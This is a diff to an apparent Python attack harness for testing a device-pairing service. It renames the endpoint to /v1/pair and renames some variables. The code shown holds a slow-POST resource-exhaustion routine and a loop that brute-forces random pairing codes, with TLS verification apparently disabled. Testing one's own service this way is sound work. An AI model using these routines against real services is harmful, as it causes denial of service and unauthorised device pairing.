@@ -82,7 +82,7 @@ class Attack:
                 return
 
     async def _slow(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-        writer.write(_head("POST", "/v1/enrol", 4000))
+        writer.write(_head("POST", "/v1/pair", 4000))
         for _ in range(60):
             writer.write(b" ")
             await asyncio.sleep(1)
@@ -94,7 +94,7 @@ class Attack:
             code = "".join(random.choices("ABCDEFGHJKLM23456789", k=12))
             body = {"code": code, "device_id": "stranger", "device_name": "Stranger"}
             content = json.dumps(body).encode()
-            writer.write(_head("POST", "/v1/enrol", len(content)) + content)
+            writer.write(_head("POST", "/v1/pair", len(content)) + content)
             await self._answer(reader)
             self.tally.tried += 1
 
@@ -112,8 +112,8 @@ class Attack:
 
 
 def _head(method: str, path: str, length: int, more: str = "") -> bytes:
-    told = f"host: x\r\ncontent-type: application/json\r\ncontent-length: {length}\r\n{more}"
-    return f"{method} {path} HTTP/1.1\r\n{told}\r\n".encode()
+    reported = f"host: x\r\ncontent-type: application/json\r\ncontent-length: {length}\r\n{more}"
+    return f"{method} {path} HTTP/1.1\r\n{reported}\r\n".encode()
 
 
 def _anyone() -> ssl.SSLContext:
@@ -135,13 +135,13 @@ def main() -> None:
     parser.add_argument("--from", dest="sources", nargs="*", default=[])
     given = parser.parse_args()
     if hasattr(os, "nice"):
-        # On one machine, an attacker's own work is not to be what slows the attacked.
+        # On one device, an attacker's own work is not to be what slows the attacked.
         os.nice(19)
     attack = Attack(given.kind, given.host, given.port, given.tls, given.sources)
     asyncio.run(attack.run(given.at_once, given.seconds))
     tally = attack.tally
-    told = {"tried": tally.tried, "refused": tally.refused, "answered": tally.answered}
-    print(json.dumps({"told": "over", "kind": given.kind, **told}), flush=True)
+    reported = {"tried": tally.tried, "refused": tally.refused, "answered": tally.answered}
+    print(json.dumps({"reported": "over", "kind": given.kind, **reported}), flush=True)
 
 
 if __name__ == "__main__":
